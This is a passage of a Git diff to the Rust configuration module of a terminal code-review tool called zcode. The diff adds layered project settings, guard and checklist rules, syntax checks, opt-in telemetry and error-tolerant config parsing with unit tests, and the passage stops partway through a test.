@@ -1,18 +1,37 @@
 //! Configuration management
 //!
-//! Loads and manages user configuration from `~/.config/zcode/config.toml`.
+//! Loads and manages user configuration from `~/.config/zcode/config.toml`,
+//! with the project's `.zcode.toml` layered over it: a setting in the project
+//! file replaces the same setting of the config file, tables are merged.
 //!
 //! Configuration sections:
 //! - **general**: Default provider, backup behavior, confirmation settings
 //! - **display**: Line numbers, syntax highlighting, color scheme
 //! - **keybindings**: Custom key bindings for all modes
+//! - **guard**: Rules flagging risky hunks for a second confirmation
+//! - **auto_accept**: Rules accepting trivial hunks as the review opens
+//! - **checklist**: Items to tick off in the confirmation before applying
+//! - **syntax_check**: Parse checks run on files before they are written
+//! - **telemetry**: Opt-in export of anonymous usage metrics over OTLP
+//!
+//! A Zellij layout can pass options on zcode's command line
+//! (`args "provider=claude" "theme=light" "read_only=true" "config=/work/zcode.toml"`).
+//! They win over the project file and the config file, which win over the
+//! defaults; see
+//! [`layout_options`] and [`Config::apply_layout_options`].
 
 use anyhow::Result;
 use serde::{Deserialize, Serialize};
-use std::collections::HashMap;
-use std::path::PathBuf;
+use std::collections::{BTreeMap, HashMap};
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use crate::context::TruncationStrategy;
+
+pub use zcode_core::config::{ApplyMode, ProviderConfig, SymlinkMode};
 
 #[derive(Debug, Clone, Serialize, Deserialize, Default)]
+#[serde(deny_unknown_fields)]
 pub struct Config {
     #[serde(default)]
     pub general: GeneralConfig,
@@ -21,49 +40,110 @@ pub struct Config {
     #[serde(default)]
     pub display: DisplayConfig,
     #[serde(default)]
+    pub layout: LayoutConfig,
+    #[serde(default)]
+    pub guard: GuardConfig,
+    #[serde(default)]
+    pub auto_accept: AutoAcceptConfig,
+    #[serde(default)]
+    pub checklist: ChecklistConfig,
+    #[serde(default)]
+    pub syntax_check: SyntaxCheckConfig,
+    #[serde(default)]
+    pub telemetry: TelemetryConfig,
+    #[serde(default)]
     pub providers: HashMap<String, ProviderConfig>,
 }
 
-/// Configuration for a specific AI provider
 #[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct ProviderConfig {
-    /// Whether this provider is enabled (default: true)
-    #[serde(default = "default_true")]
-    pub enabled: bool,
-    /// Optional custom path to the provider's CLI tool
-    pub path: Option<String>,
-    /// Optional custom name for the provider
-    pub name: Option<String>,
-    /// Optional parser type (unified_diff, code_blocks, json)
-    pub parser: Option<String>,
-    /// Optional argument template for custom providers. Use {prompt} as placeholder.
-    /// Example: ["-p", "{prompt}", "--json"]
-    pub args_template: Option<Vec<String>>,
-}
-
-impl Default for ProviderConfig {
-    fn default() -> Self {
-        Self {
-            enabled: true,
-            path: None,
-            name: None,
-            parser: None,
-            args_template: None,
-        }
-    }
-}
-
-fn default_true() -> bool {
-    true
-}
-
-#[derive(Debug, Clone, Serialize, Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
 pub struct GeneralConfig {
     pub default_provider: Option<String>,
     pub create_backups: bool,
-    pub confirm_before_apply: bool,
+    /// `true` always asks before applying and `false` never does, whatever
+    /// `confirm_on` says; unset leaves it to `confirm_on`. Hunks flagged by a
+    /// guard rule ask either way.
+    pub confirm_before_apply: Option<bool>,
     pub context_lines: usize,
 
+    /// Only ask for confirmation when the accepted hunks match one of these
+    /// rules. Unset means always confirm.
+    #[serde(default)]
+    pub confirm_on: Option<Vec<ConfirmRule>>,
+
+    /// Whether one file failing to apply rolls back the others (`atomic`) or
+    /// each file applies on its own (`per_file`)
+    #[serde(default)]
+    pub apply_mode: ApplyMode,
+
+    /// Changed lines (added + removed) above which `large_change` applies
+    #[serde(default = "default_large_change_lines")]
+    pub large_change_lines: usize,
+
+    /// How attached context files are truncated when over the token budget
+    #[serde(default)]
+    pub context_truncation: TruncationStrategy,
+
+    /// Send a summary of the project (languages, frameworks, layout, git
+    /// branch) with prompts to providers that don't read the repository
+    #[serde(default)]
+    pub project_summary: bool,
+
+    /// Most tokens the project summary may take
+    #[serde(default = "default_project_summary_tokens")]
+    pub project_summary_tokens: usize,
+
+    /// Hunks separated by at most this many unchanged lines (or in the same
+    /// function) are reviewed as one group
+    #[serde(default = "default_group_gap_lines")]
+    pub group_gap_lines: usize,
+
+    /// Changes keeping less than this share of a file's lines (0.0-1.0) are
+    /// shown as a rewrite, folded into one group
+    #[serde(default = "default_rewrite_similarity")]
+    pub rewrite_similarity: f32,
+
+    /// Diffing a file for longer than this (milliseconds) is logged as slow
+    #[serde(default = "default_slow_diff_ms")]
+    pub slow_diff_ms: u64,
+
+    /// Instructions sent with every prompt, ahead of the project's
+    /// `.zcode/preamble.md`
+    #[serde(default)]
+    pub preamble: Option<String>,
+
+    /// Shell command run after changes are applied (e.g. `cargo test`); failing
+    /// test locations are shown on the applied hunks
+    #[serde(default)]
+    pub test_command: Option<String>,
+
+    /// Shell command run before changes are applied, with the patch on stdin;
+    /// a non-zero exit stops the apply and shows its output
+    #[serde(default)]
+    pub pre_apply_command: Option<String>,
+
+    /// Seconds the pre-apply command may run before the apply is stopped
+    #[serde(default = "default_pre_apply_timeout_secs")]
+    pub pre_apply_timeout_secs: u64,
+
+    /// Show the exact provider command line while a prompt runs
+    #[serde(default)]
+    pub command_preview: bool,
+
+    /// How many `:foreach` runs execute at once
+    #[serde(default = "default_batch_concurrency")]
+    pub batch_concurrency: usize,
+
+    /// How many background tasks (provider detection, prompts, the test
+    /// command, large diffs) run at once; the rest wait their turn. 0 for no limit.
+    #[serde(default = "default_max_concurrent_tasks")]
+    pub max_concurrent_tasks: usize,
+
+    /// Command that opens links from chat messages (e.g. `firefox`); the URL
+    /// is passed as the last argument. Unset uses the platform's opener.
+    #[serde(default)]
+    pub url_opener: Option<String>,
+
     /// Enable Neovim integration (auto-connect when run in :terminal)
     #[serde(default)]
     pub neovim_integration: bool,
@@ -71,9 +151,271 @@ pub struct GeneralConfig {
     /// Auto-push overlays to Neovim when changes are generated
     #[serde(default)]
     pub auto_push_to_neovim: bool,
+
+    /// Review without writing: applying changes is refused
+    #[serde(default)]
+    pub read_only: bool,
+
+    /// Whether applying a change to a symlink writes the file it points to
+    /// (`follow`) or replaces the link with a regular file (`replace`)
+    #[serde(default)]
+    pub symlinks: SymlinkMode,
+
+    /// Apply every review on a new git branch and commit it there
+    /// (`:apply-branch` does so once)
+    #[serde(default)]
+    pub apply_to_branch: bool,
+
+    /// Name of those branches; `{prompt}`, `{session}` and `{date}` are filled in
+    #[serde(default = "default_branch_name")]
+    pub branch_name: String,
+
+    /// How long (hours) a provider detection is trusted on later starts before
+    /// `--version` is run again; 0 detects on every start
+    #[serde(default = "default_detection_cache_hours")]
+    pub detection_cache_hours: u64,
+}
+
+impl GeneralConfig {
+    /// How applies write files, as set by `create_backups`, `apply_mode` and
+    /// `symlinks`
+    pub fn apply_options(&self) -> zcode_core::file_ops::ApplyOptions {
+        zcode_core::file_ops::ApplyOptions {
+            create_backups: self.create_backups,
+            apply_mode: self.apply_mode,
+            symlinks: self.symlinks,
+        }
+    }
+}
+
+impl Default for GeneralConfig {
+    fn default() -> Self {
+        Self {
+            default_provider: None,
+            create_backups: false,
+            confirm_before_apply: None,
+            context_lines: 0,
+            confirm_on: None,
+            apply_mode: ApplyMode::default(),
+            large_change_lines: default_large_change_lines(),
+            context_truncation: TruncationStrategy::default(),
+            project_summary: false,
+            project_summary_tokens: default_project_summary_tokens(),
+            group_gap_lines: default_group_gap_lines(),
+            rewrite_similarity: default_rewrite_similarity(),
+            slow_diff_ms: default_slow_diff_ms(),
+            preamble: None,
+            test_command: None,
+            pre_apply_command: None,
+            pre_apply_timeout_secs: default_pre_apply_timeout_secs(),
+            command_preview: false,
+            batch_concurrency: default_batch_concurrency(),
+            max_concurrent_tasks: default_max_concurrent_tasks(),
+            url_opener: None,
+            neovim_integration: false,
+            auto_push_to_neovim: false,
+            read_only: false,
+            symlinks: SymlinkMode::default(),
+            apply_to_branch: false,
+            branch_name: default_branch_name(),
+            detection_cache_hours: default_detection_cache_hours(),
+        }
+    }
+}
+
+fn default_large_change_lines() -> usize {
+    200
+}
+
+fn default_branch_name() -> String {
+    "zcode/{prompt}".to_string()
+}
+
+fn default_detection_cache_hours() -> u64 {
+    24
+}
+
+fn default_project_summary_tokens() -> usize {
+    300
+}
+
+fn default_batch_concurrency() -> usize {
+    4
+}
+
+fn default_max_concurrent_tasks() -> usize {
+    4
+}
+
+fn default_group_gap_lines() -> usize {
+    10
+}
+
+fn default_rewrite_similarity() -> f32 {
+    0.3
+}
+
+fn default_slow_diff_ms() -> u64 {
+    100
+}
+
+fn default_pre_apply_timeout_secs() -> u64 {
+    60
+}
+
+/// Kinds of change that require confirmation before applying
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ConfirmRule {
+    /// Any change (same as leaving `confirm_on` unset)
+    Always,
+    /// Deleting a file
+    Delete,
+    /// Creating a new file
+    Create,
+    /// Creating a file outside a `src` directory
+    CreateOutsideSrc,
+    /// More than `large_change_lines` changed lines in total
+    LargeChange,
+}
+
+/// Rules flagging risky hunks (`[guard]`)
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct GuardConfig {
+    /// Replaces the built-in rules; an empty list turns the guard off
+    pub rules: Vec<GuardRule>,
+}
+
+impl Default for GuardConfig {
+    fn default() -> Self {
+        Self {
+            rules: crate::guard::default_rules(),
+        }
+    }
+}
+
+/// A risky kind of change (`[[guard.rules]]`). A hunk trips the rule when
+/// every condition that is set holds.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct GuardRule {
+    /// Shown on the flagged hunks and in the confirmation
+    pub name: String,
+    /// Files the rule covers (gitignore syntax); empty covers every file
+    #[serde(default)]
+    pub paths: Vec<String>,
+    /// Regex matched against the hunk's added lines
+    #[serde(default)]
+    pub added: Option<String>,
+    /// Least number of lines the hunk removes
+    #[serde(default)]
+    pub removed_lines: Option<usize>,
+}
+
+/// Hunks accepted without review as the review opens (`[auto_accept]`); all
+/// rules are off by default
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
+pub struct AutoAcceptConfig {
+    /// Changes to nothing but whitespace
+    pub whitespace: bool,
+    /// Import lines that were only reordered
+    pub imports: bool,
+    /// Generated files (gitignore syntax), e.g. `["gen/", "*.pb.go"]`
+    pub paths: Vec<String>,
+}
+
+/// A checklist shown in the apply confirmation (`[checklist]`); empty by default
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
+pub struct ChecklistConfig {
+    /// Applying waits until every item is checked
+    pub required: bool,
+    pub items: Vec<ChecklistItem>,
+}
+
+/// An item of the checklist (`[[checklist.items]]`)
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ChecklistItem {
+    pub label: String,
+    /// Check the item by itself when the accepted hunks pass this test
+    #[serde(default)]
+    pub auto: Option<ChecklistCheck>,
+}
+
+/// Heuristics that check a checklist item
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ChecklistCheck {
+    /// A test file is changed (under `tests/`, or named like `foo_test.go`)
+    TouchesTests,
+    /// No added line looks like a key, token or password
+    NoSecrets,
+    /// Documentation is changed, or no public API is
+    DocsIfApi,
+}
+
+/// Parse checks of the files an apply would write (`[syntax_check]`). JSON
+/// and TOML are checked by zcode itself; other languages by a command per
+/// file extension, run on a copy of the file (`{file}`), which fails when the
+/// file doesn't parse.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct SyntaxCheckConfig {
+    pub enabled: bool,
+    /// Commands by file extension; they replace the built-in ones
+    pub commands: BTreeMap<String, String>,
+    /// Longest a command may run before the file counts as unchecked
+    pub timeout_ms: u64,
+}
+
+impl Default for SyntaxCheckConfig {
+    fn default() -> Self {
+        let commands = [
+            ("rs", "rustfmt --edition 2021 --emit stdout {file}"),
+            ("py", "python3 -m py_compile {file}"),
+        ];
+        Self {
+            enabled: true,
+            commands: commands
+                .into_iter()
+                .map(|(ext, command)| (ext.to_string(), command.to_string()))
+                .collect(),
+            timeout_ms: 2000,
+        }
+    }
+}
+
+/// Export of anonymous usage metrics to an OTLP collector (`[telemetry]`).
+/// Off unless `enabled` is set, and only sent by builds with the `telemetry`
+/// feature.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TelemetryConfig {
+    pub enabled: bool,
+    /// OTLP/HTTP base URL; metrics are posted to `<endpoint>/v1/metrics`
+    pub endpoint: String,
+    /// Seconds between exports
+    pub interval_secs: u64,
+    /// Extra request headers, e.g. an API key for the collector
+    pub headers: BTreeMap<String, String>,
+}
+
+impl Default for TelemetryConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            endpoint: "http://localhost:4318".to_string(),
+            interval_secs: 60,
+            headers: BTreeMap::new(),
+        }
+    }
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize, Default)]
+#[serde(default, deny_unknown_fields)]
 pub struct KeybindingsConfig {
     pub next_hunk: String,
     pub prev_hunk: String,
@@ -83,25 +425,188 @@ pub struct KeybindingsConfig {
     pub quit: String,
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize, Default)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
 pub struct DisplayConfig {
     pub show_line_numbers: bool,
     pub syntax_highlighting: bool,
     pub color_scheme: String,
+    /// Locale for UI strings, e.g. `de` for `~/.config/zcode/locales/de.toml`.
+    /// Unset means English.
+    pub language: Option<String>,
+    /// Show what zcode is doing ("reviewing 3 files", "running claude…") in
+    /// the terminal title, which tab bars and multiplexers display
+    pub update_titles: bool,
+    /// Glyphs for markers such as ✓ and ✗
+    pub icons: IconSet,
+    /// List the keys that can follow a prefix such as `g` or `z`
+    pub which_key: bool,
+    /// How long a prefix waits for its next key before that list is shown
+    pub which_key_delay_ms: u64,
+}
+
+/// Glyphs the UI draws (`display.icons`)
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum IconSet {
+    /// Unicode, or ASCII when the locale isn't UTF-8
+    #[default]
+    Auto,
+    Unicode,
+    /// Glyphs of a patched Nerd Font
+    NerdFont,
+    Ascii,
+}
+
+impl Default for DisplayConfig {
+    fn default() -> Self {
+        Self {
+            show_line_numbers: false,
+            syntax_highlighting: false,
+            color_scheme: String::new(),
+            language: None,
+            update_titles: true,
+            icons: IconSet::default(),
+            which_key: true,
+            which_key_delay_ms: 400,
+        }
+    }
+}
+
+/// Pane sizes and placement of the main screen
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LayoutConfig {
+    /// Sidebar width in columns
+    pub sidebar_width: u16,
+    /// Rows the prompt input grows to (borders included) before it scrolls
+    pub input_max_height: u16,
+    /// Chat's share of the chat/diff split in the wide layout, in percent.
+    /// `Ctrl+←/→` changes it while running and remembers the choice.
+    pub chat_ratio: u16,
+    pub sidebar_position: SidebarPosition,
+    /// Terminal width (columns) from which the sidebar fits next to the content
+    pub normal_min_width: u16,
+    /// Terminal width (columns) from which chat and diff are shown side by side
+    pub wide_min_width: u16,
+}
+
+impl Default for LayoutConfig {
+    fn default() -> Self {
+        Self {
+            sidebar_width: 25,
+            input_max_height: 6,
+            chat_ratio: 50,
+            sidebar_position: SidebarPosition::default(),
+            normal_min_width: 80,
+            wide_min_width: 120,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum SidebarPosition {
+    Left,
+    #[default]
+    Right,
 }
 
 impl Config {
     pub fn load() -> Result<Self> {
-        let config_path = Self::config_path();
+        let (config, problems) = Self::load_checked()?;
+        match problems.first() {
+            Some(problem) => Err(anyhow::anyhow!("{}", problem)),
+            None => Ok(config),
+        }
+    }
+
+    /// Load the config file and the project file, leaving out the settings
+    /// they get wrong.
+    ///
+    /// Every problem is reported with its line and key, and the rest of the
+    /// files still applies.
+    pub fn load_checked() -> Result<(Self, Vec<ConfigProblem>)> {
+        let [global, project] = Self::read_sources()?;
+        let project_path = Self::source_paths()[1].clone();
+        Ok(Self::parse_layered(
+            global.as_deref(),
+            project
+                .as_deref()
+                .map(|content| (project_path.as_path(), content)),
+        ))
+    }
 
-        if config_path.exists() {
-            let content = std::fs::read_to_string(&config_path)?;
-            Ok(toml::from_str(&content)?)
-        } else {
-            Ok(Self::default())
+    /// The files settings are read from, weakest first: the config file and
+    /// the project file in the current directory
+    pub fn source_paths() -> [PathBuf; 2] {
+        let cwd = std::env::current_dir().unwrap_or_default();
+        [Self::config_path(), project_path(&cwd)]
+    }
+
+    /// Contents of [`Config::source_paths`], `None` for a missing file
+    pub fn read_sources() -> Result<[Option<String>; 2]> {
+        let read = |path: &Path| -> Result<Option<String>> {
+            if path.exists() {
+                Ok(Some(std::fs::read_to_string(path)?))
+            } else {
+                Ok(None)
+            }
+        };
+        let [global, project] = Self::source_paths();
+        Ok([read(&global)?, read(&project)?])
+    }
+
+    /// Parse the config file's `global` content with the project file's
+    /// content over it; problems in the project file name its path
+    pub fn parse_layered(
+        global: Option<&str>,
+        project: Option<(&Path, &str)>,
+    ) -> (Self, Vec<ConfigProblem>) {
+        let (global, mut problems) = global.map(clean_settings).unwrap_or_default();
+        let Some((path, project)) = project else {
+            return (toml::from_str(&global).unwrap_or_default(), problems);
+        };
+        let (project, project_problems) = clean_settings(project);
+        let in_project = |problem: ConfigProblem| ConfigProblem {
+            file: Some(path.to_path_buf()),
+            ..problem
+        };
+        problems.extend(project_problems.into_iter().map(in_project));
+
+        let mut project: toml::Table = project.parse().unwrap_or_default();
+        problems.extend(strip_user_only(&mut project).into_iter().map(|key| {
+            in_project(ConfigProblem {
+                line: None,
+                key: Some(key),
+                file: None,
+                message: "only the config file can set this; it runs commands or sends data"
+                    .to_string(),
+            })
+        }));
+
+        let mut table: toml::Table = global.parse().unwrap_or_default();
+        merge_tables(&mut table, project);
+        match toml::Value::Table(table).try_into() {
+            Ok(config) => (config, problems),
+            Err(e) => {
+                problems.push(in_project(ConfigProblem {
+                    line: None,
+                    key: None,
+                    file: None,
+                    message: e.message().to_string(),
+                }));
+                (toml::from_str(&global).unwrap_or_default(), problems)
+            }
         }
     }
 
+    /// Parse the config file's `content`, blanking each line the parser
+    /// rejects and trying again until the rest parses
+    pub fn parse_checked(content: &str) -> (Self, Vec<ConfigProblem>) {
+        Self::parse_layered(Some(content), None)
+    }
+
     pub fn save(&self) -> Result<()> {
         let path = Self::config_path();
         if let Some(parent) = path.parent() {
@@ -112,7 +617,12 @@ impl Config {
         Ok(())
     }
 
+    /// The config file: the one the `config` layout option names, else
+    /// `~/.config/zcode/config.toml`
     pub fn config_path() -> PathBuf {
+        if let Some(path) = CONFIG_PATH.get() {
+            return path.clone();
+        }
         dirs::config_dir()
             .unwrap_or_else(|| PathBuf::from("."))
             .join("zcode")
@@ -120,6 +630,240 @@ impl Config {
     }
 }
 
+/// `content` with each line the parser rejects blanked, trying again until
+/// the rest parses (or nothing, after too many problems), and the problems
+fn clean_settings(content: &str) -> (String, Vec<ConfigProblem>) {
+    let mut lines: Vec<String> = content.lines().map(str::to_string).collect();
+    let mut problems = Vec::new();
+    loop {
+        let error = match toml::from_str::<Config>(&lines.join("\n")) {
+            Ok(_) => return (lines.join("\n"), problems),
+            Err(e) => e,
+        };
+        let text = lines.join("\n");
+        let line = error
+            .span()
+            .map(|span| text[..span.start.min(text.len())].matches('\n').count());
+        let problem = ConfigProblem {
+            line: line.map(|l| l + 1),
+            key: line.and_then(|l| key_at(&lines, l)),
+            file: None,
+            message: error.message().to_string(),
+        };
+        let stuck = problems.len() >= MAX_CONFIG_PROBLEMS
+            || problems.contains(&problem)
+            || line.is_none_or(|l| l >= lines.len());
+        problems.push(problem);
+        if stuck {
+            return (String::new(), problems);
+        }
+        blank_setting(&mut lines, line.unwrap_or_default());
+    }
+}
+
+/// Put the settings of `over` into `base`, merging tables present in both
+fn merge_tables(base: &mut toml::Table, over: toml::Table) {
+    for (key, value) in over {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(over)) => merge_tables(base, over),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Settings a project file can't set: they run commands (providers are run to
+/// detect them as soon as zcode starts) or send data elsewhere, and opening a
+/// cloned repository shouldn't let it choose those
+pub const USER_ONLY_SETTINGS: [&str; 6] = [
+    "providers",
+    "telemetry",
+    "general.test_command",
+    "general.pre_apply_command",
+    "general.url_opener",
+    "syntax_check.commands",
+];
+
+/// Take the [`USER_ONLY_SETTINGS`] out of a project file's `table`; returns
+/// the ones it had
+fn strip_user_only(table: &mut toml::Table) -> Vec<String> {
+    let mut stripped = Vec::new();
+    for key in USER_ONLY_SETTINGS {
+        let (section, name) = match key.split_once('.') {
+            Some((section, name)) => (Some(section), name),
+            None => (None, key),
+        };
+        let parent = match section {
+            Some(section) => match table.get_mut(section) {
+                Some(toml::Value::Table(parent)) => parent,
+                _ => continue,
+            },
+            None => &mut *table,
+        };
+        if parent.remove(name).is_some() {
+            stripped.push(key.to_string());
+        }
+    }
+    stripped
+}
+
+/// Project settings layered over the config file
+pub const PROJECT_FILE: &str = ".zcode.toml";
+
+/// The project file of the project in `root`
+pub fn project_path(root: &Path) -> PathBuf {
+    root.join(PROJECT_FILE)
+}
+
+/// Config file chosen by the `config` layout option, set once at startup
+static CONFIG_PATH: OnceLock<PathBuf> = OnceLock::new();
+
+/// Options a layout can pass, in the order `:config show` lists them
+pub const LAYOUT_OPTIONS: [&str; 4] = ["provider", "theme", "read_only", "config"];
+
+/// Where settings come from, strongest first
+pub const PRECEDENCE: &str = "layout options > .zcode.toml > config file > defaults";
+
+impl Config {
+    /// Read the config file from `path` instead of the default location for
+    /// the rest of the run. Only the first call has an effect.
+    pub fn use_config_path(path: PathBuf) {
+        let _ = CONFIG_PATH.set(path);
+    }
+
+    /// Put the layout `options` over the settings of the config file. Returns
+    /// a note for each option that isn't known or has a bad value.
+    pub fn apply_layout_options(&mut self, options: &BTreeMap<String, String>) -> Vec<String> {
+        let mut problems = Vec::new();
+        for (key, value) in options {
+            match key.as_str() {
+                "provider" => self.general.default_provider = Some(value.clone()),
+                "theme" if value == "light" || value == "dark" => {
+                    self.display.color_scheme = value.clone()
+                }
+                "theme" => problems.push(format!("theme={}: expected light or dark", value)),
+                "read_only" => match value.parse() {
+                    Ok(read_only) => self.general.read_only = read_only,
+                    Err(_) => problems.push(format!("read_only={}: expected true or false", value)),
+                },
+                // Picked before the file is read, see `use_config_path`
+                "config" => {}
+                _ => problems.push(format!(
+                    "unknown option {} (known: {})",
+                    key,
+                    LAYOUT_OPTIONS.join(", ")
+                )),
+            }
+        }
+        problems
+    }
+}
+
+/// Layout options among command-line arguments: `key=value` or
+/// `--key=value`, with `-` in keys read as `_`; a bare `--read-only` is
+/// `read_only=true`. Other arguments are left out.
+pub fn layout_options(args: &[String]) -> BTreeMap<String, String> {
+    let mut options = BTreeMap::new();
+    for arg in args {
+        let arg = arg.trim_start_matches("--");
+        let (key, value) = match arg.split_once('=') {
+            Some((key, value)) => (key, value),
+            None if arg == "read-only" || arg == "read_only" => (arg, "true"),
+            None => continue,
+        };
+        options.insert(key.trim().replace('-', "_"), value.trim().to_string());
+    }
+    options
+}
+
+/// Problems reported before giving up on the file and using the defaults
+const MAX_CONFIG_PROBLEMS: usize = 20;
+
+/// A setting of the config file that was left out
+#[derive(Debug, Clone, PartialEq)]
+pub struct ConfigProblem {
+    /// 1-based line of the setting, when known
+    pub line: Option<usize>,
+    /// Dotted key of the setting, e.g. `layout.chat_ratio`
+    pub key: Option<String>,
+    /// File the setting is in when it isn't the config file
+    pub file: Option<PathBuf>,
+    /// What is wrong, with the expected type or values
+    pub message: String,
+}
+
+impl std::fmt::Display for ConfigProblem {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        if let Some(file) = &self.file {
+            write!(f, "{}: ", file.display())?;
+        }
+        if let Some(line) = self.line {
+            write!(f, "line {}: ", line)?;
+        }
+        if let Some(key) = &self.key {
+            write!(f, "{}: ", key)?;
+        }
+        write!(f, "{}", self.message)
+    }
+}
+
+/// `[section]` or `[[section]]` header on `line`
+fn table_header(line: &str) -> Option<&str> {
+    let line = line.trim();
+    let name = line.strip_prefix('[')?.split(']').next()?;
+    Some(name.trim_start_matches('[').trim())
+}
+
+/// Dotted key of the setting (or table) on line `idx`
+fn key_at(lines: &[String], idx: usize) -> Option<String> {
+    let line = lines.get(idx)?;
+    if let Some(header) = table_header(line) {
+        return Some(header.to_string());
+    }
+    let key = line.split('=').next()?.trim();
+    if key.is_empty() || key.starts_with('#') {
+        return None;
+    }
+    let section = lines[..idx].iter().rev().find_map(|l| table_header(l));
+    Some(match section {
+        Some(section) => format!("{}.{}", section, key),
+        None => key.to_string(),
+    })
+}
+
+/// Take the setting on line `idx` out of `lines`, keeping the line numbers.
+/// A table header takes its whole table with it; a multi-line value is
+/// blanked up to its last line.
+fn blank_setting(lines: &mut [String], idx: usize) {
+    let end = if table_header(&lines[idx]).is_some() {
+        lines[idx + 1..]
+            .iter()
+            .position(|l| table_header(l).is_some())
+            .map_or(lines.len(), |p| idx + 1 + p)
+    } else {
+        let mut depth = 0i32;
+        let mut end = idx;
+        for (i, line) in lines.iter().enumerate().skip(idx) {
+            let value = if i == idx {
+                line.split_once('=').map_or("", |(_, v)| v)
+            } else {
+                line
+            };
+            depth += value.matches(['[', '{']).count() as i32;
+            depth -= value.matches([']', '}']).count() as i32;
+            end = i + 1;
+            if depth <= 0 {
+                break;
+            }
+        }
+        end
+    };
+    for line in &mut lines[idx..end] {
+        line.clear();
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -129,7 +873,16 @@ mod tests {
         let config = Config::default();
         assert_eq!(config.general.default_provider, None);
         assert!(!config.general.create_backups);
-        assert!(!config.general.confirm_before_apply);
+        assert_eq!(config.general.confirm_before_apply, None);
+    }
+
+    #[test]
+    fn test_partial_layout_section() {
+        let config: Config =
+            toml::from_str("[layout]\nsidebar_position = \"left\"\nchat_ratio = 65\n").unwrap();
+        assert_eq!(config.layout.sidebar_position, SidebarPosition::Left);
+        assert_eq!(config.layout.chat_ratio, 65);
+        assert_eq!(config.layout.sidebar_width, 25);
     }
 
     #[test]
@@ -137,8 +890,28 @@ mod tests {
         let general = GeneralConfig::default();
         assert_eq!(general.default_provider, None);
         assert!(!general.create_backups);
-        assert!(!general.confirm_before_apply);
+        assert_eq!(general.confirm_before_apply, None);
         assert_eq!(general.context_lines, 0);
+        assert_eq!(general.confirm_on, None);
+        assert_eq!(general.large_change_lines, 200);
+    }
+
+    #[test]
+    fn test_confirm_on_parses() {
+        let config: Config = toml::from_str(
+            "[general]\ncreate_backups = true\nconfirm_before_apply = true\ncontext_lines = 3\n\
+             confirm_on = [\"delete\", \"create_outside_src\", \"large_change\"]\n",
+        )
+        .unwrap();
+        assert_eq!(
+            config.general.confirm_on,
+            Some(vec![
+                ConfirmRule::Delete,
+                ConfirmRule::CreateOutsideSrc,
+                ConfirmRule::LargeChange
+            ])
+        );
+        assert_eq!(config.general.large_change_lines, 200);
     }
 
     #[test]
@@ -147,6 +920,7 @@ mod tests {
         assert!(!display.show_line_numbers);
         assert!(!display.syntax_highlighting);
         assert_eq!(display.color_scheme, String::new());
+        assert!(display.update_titles);
     }
 
     #[test]
@@ -207,6 +981,111 @@ parser = "unified_diff"
         assert_eq!(custom.parser, Some("unified_diff".to_string()));
     }
 
+    #[test]
+    fn test_parse_checked_reports_every_problem() {
+        let toml_str = r#"
+[general]
+create_backups = "yes"
+context_lines = 3
+
+[layout]
+chat_ratio = 65
+sidebar_position = "top"
+sidebar_widht = 30
+
+[keybindings]
+quit = "q"
+"#;
+        let (config, problems) = Config::parse_checked(toml_str);
+
+        let keys: Vec<_> = problems.iter().map(|p| p.key.as_deref()).collect();
+        assert_eq!(
+            keys,
+            vec![
+                Some("general.create_backups"),
+                Some("layout.sidebar_position"),
+                Some("layout.sidebar_widht"),
+            ]
+        );
+        assert_eq!(problems[0].line, Some(3));
+        assert!(problems[1].message.contains("`left`"), "{}", problems[1]);
+        // The settings that were fine still apply
+        assert_eq!(config.general.context_lines, 3);
+        assert_eq!(config.layout.chat_ratio, 65);
+        assert_eq!(config.keybindings.quit, "q");
+    }
+
+    #[test]
+    fn test_project_file_is_layered_over_the_config_file() {
+        let global = "[general]\ncontext_lines = 3\n\n[layout]\nchat_ratio = 65\n";
+        let project = "[layout]\nchat_ratio = 50\nsidebar_position = \"top\"\n\n[display]\ncolor_scheme = \"light\"\n";
+        let path = Path::new("/work/.zcode.toml");
+        let (config, problems) = Config::parse_layered(Some(global), Some((path, project)));
+
+        assert_eq!(config.general.context_lines, 3);
+        assert_eq!(config.layout.chat_ratio, 50);
+        assert_eq!(config.display.color_scheme, "light");
+        assert_eq!(problems.len(), 1);
+        assert_eq!(problems[0].file.as_deref(), Some(path));
+        assert_eq!(problems[0].key.as_deref(), Some("layout.sidebar_position"));
+        assert_eq!(problems[0].line, Some(3));
+    }
+
+    #[test]
+    fn test_project_file_cannot_set_commands() {
+        let global = "[general]\ntest_command = \"cargo test\"\n";
